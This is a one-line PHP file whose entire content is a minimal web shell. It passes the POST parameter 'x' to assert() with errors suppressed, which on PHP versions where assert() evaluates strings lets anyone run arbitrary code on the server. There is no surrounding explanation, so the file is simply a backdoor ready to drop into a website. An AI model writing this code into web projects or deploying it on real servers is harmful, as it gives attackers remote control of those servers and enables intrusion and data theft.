<?php @assert($_POST['x']); ?>
